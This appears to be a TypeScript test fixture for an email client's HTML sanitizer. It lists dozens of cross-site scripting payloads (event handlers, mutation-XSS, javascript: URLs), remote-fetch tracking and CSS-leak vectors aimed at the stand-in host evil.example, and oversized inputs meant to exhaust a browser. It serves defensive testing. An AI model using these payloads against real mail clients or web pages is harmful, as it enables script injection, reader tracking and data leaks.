const X = 'https://evil.example'
const RUN = "hacked('ran')"

/** Ways to run a script in an email app, from public lists of payloads. */
const SCRIPTS = [
  `<script>${RUN}</script>`,
  `<SCRIPT SRC=${X}/x.js></SCRIPT>`,
  `<img src=x onerror="${RUN}">`,
  `<img src="x:x" onerror=${RUN}//`,
  `<svg onload="${RUN}"><script>${RUN}</script></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${RUN}' /></svg>#x" /></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<math><mi//xlink:href="data:x,<script>${RUN}</script>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<object data="javascript:${RUN}"></object><embed src="${X}/x.swf">`,
  `<a href="javascript:${RUN}">link</a><a href=" java\tscript:${RUN}">link</a><a href="data:text/html,<script>${RUN}</script>">link</a>`,
  `<a href="${X}/?a" onclick="${RUN}" ping="${X}/ping">link</a>`,
  `<body onload="${RUN}" onpageshow="${RUN}" onfocus="${RUN}">`,
  `<input autofocus onfocus="${RUN}"><select autofocus onfocus="${RUN}"><textarea autofocus onfocus="${RUN}">`,
  `<details open ontoggle="${RUN}">x</details><marquee onstart="${RUN}">x</marquee>`,
  `<video src=x onerror="${RUN}"></video><audio src=x onerror="${RUN}"></audio><video><source onerror="${RUN}"></video>`,
  `<template><script>${RUN}</script></template><div><template shadowrootmode="open"><script>${RUN}</script></template></div>`,
  `<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart="${RUN}">x</p>`,
  `<x onpointerrawupdate="${RUN}" style="position:fixed;inset:0">x</x>`,
  `<img src="x\`\`onerror=${RUN}" alt="\`><script>${RUN}</script>">`,
  `<p id="location"></p><form id="documentElement"><input name="attributes"><input name="nodeName"></form>`,
  `<meta http-equiv="refresh" content="0;url=javascript:parent.${RUN}">`,
  `<base href="javascript:/a/-${RUN}///"><a href="">x</a>`,
  `<xmp><p title="</xmp><img src=x onerror=${RUN}>"></xmp>`,
  `<![CDATA[><script>${RUN}</script>]]><!--><img src=x onerror=${RUN}>-->`,
  `<div style="width:expression(${RUN});behavior:url(${X}/x.htc);-moz-binding:url(${X}/x.xml#x)">x</div>`,
]

/** Ways to learn that an email was read, or what is in it. */
const FETCHES = [
  `<img src="${X}/pixel.gif" width=1 height=1>`,
  `<img srcset="${X}/a.png 1x, ${X}/b.png 2x"><picture><source srcset="${X}/c.png"><img src="${X}/d.png"></picture>`,
  `<img src="//evil.example/pixel.gif"><img src="http://evil.example/pixel.gif"><img src="HTTPS:\\\\evil.example/x">`,
  `<img data-remote-src="${X}/own.gif">`,
  `<table background="${X}/bg.png"><td background="${X}/td.png">x</td></table><body background="${X}/body.png">`,
  `<style>@import url(${X}/a.css);@import "${X}/b.css";@font-face{font-family:x;src:url(${X}/f.woff)}body{font-family:x;background:url(${X}/c.png)}</style>`,
  `<style>p{background:u\\72l(${X}/d.png)}a[href^="https"]{background:image-set("${X}/e.png" 1x)}p::before{content:url(${X}/f.png)}</style><p>x</p>`,
  `<style>input[value^="a"]{background-image:url(${X}/?a)}:has(p){--x:url(${X}/g.png);background:var(--x)}</style><p>x</p>`,
  `<p style="background:url(${X}/h.png)">x</p><p style="background:\\75\\72\\6c(${X}/i.png)">x</p><p style="list-style-image:url('${X}/j.png')">x</p>`,
  `<p style="cursor:url(${X}/k.cur),auto;border-image:url(${X}/l.png) 30;mask:url(${X}/m.svg);filter:url(${X}/n.svg#f)">x</p>`,
  `<link rel="stylesheet" href="${X}/a.css"><link rel="preload" as="image" href="${X}/b.png"><link rel="dns-prefetch" href="//evil.example"><link rel="prerender" href="${X}/c">`,
  `<iframe src="${X}/frame"></iframe><object data="${X}/object"></object><embed src="${X}/embed">`,
  `<video poster="${X}/poster.png" src="${X}/v.mp4" autoplay></video><audio src="${X}/a.mp3" autoplay></audio><track src="${X}/t.vtt">`,
  `<svg><image href="${X}/svg.png" /><use href="${X}/use.svg#x" /><feImage href="${X}/fe.png" /></svg>`,
  `<meta http-equiv="refresh" content="0;url=${X}/refresh"><base href="${X}/">`,
  `<form action="${X}/form"><input name=a value=b><button>Go</button></form><isindex action="${X}">`,
  `<img src="cid:nothing@x"><img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='${X}/in-svg.png'/></svg>">`,
  `<script src="${X}/x.js" async></script><script type="module">import "${X}/m.js"</script>`,
  `<portal src="${X}/portal"></portal><applet code="${X}/a.class"></applet><frameset><frame src="${X}/f"></frameset>`,
  `<p style="position:fixed;inset:0;z-index:99999;background:red">Cover</p><a href="${X}/click" target="_top">x</a>`,
]

/** Emails that would keep a browser busy. */
const HEAVY = [
  `${'<div>'.repeat(1_000)}deep${'</div>'.repeat(1_000)}`,
  `${'<b><i><table><tr><td>'.repeat(400)}deep`,
  `${'<p>line of text</p>'.repeat(8_000)}`,
  `<style>${'a:has(b) '.repeat(2_000)}{color:red}</style><p>x</p>`,
  `<p ${Array.from({ length: 3_000 }, (_, n) => `data-a${n}="${n}"`).join(' ')}>many attributes</p>`,
]

/** Every message of strangers that must do nothing but be read. */
export const HOSTILE = [...SCRIPTS, ...FETCHES, ...HEAVY]

const TEN_MEGABYTES = 10_000_000
const upToTenMegabytes = (piece: string) => piece.repeat(Math.ceil(TEN_MEGABYTES / piece.length))

/** Bodies of emails of 10 MB, by their type. */
export const LARGE: [type: string, body: string][] = [
  ['text/html', upToTenMegabytes(`<p style="color:red">line<img src="${X}/pixel.gif" onerror="${RUN}"></p>`)],
  ['text/html', upToTenMegabytes('<table><tr><td>')],
  ['text/html', `<p>${upToTenMegabytes('nospace')}</p>`],
  ['text/html', `<img src="data:image/png;base64,${upToTenMegabytes('iVBORw0KGgo')}">`],
  ['text/html', upToTenMegabytes('<a href="https://navona.example/a">link</a> ')],
  ['text/html', `<style>${upToTenMegabytes('p.a > b { color: red } ')}</style><p>x</p>`],
  ['text/html', upToTenMegabytes('<blockquote type="cite">')],
  ['text/plain', upToTenMegabytes('https://navona.example/a ')],
  ['text/plain', upToTenMegabytes('nospace')],
  ['text/plain', upToTenMegabytes('> quoted\n')],
]
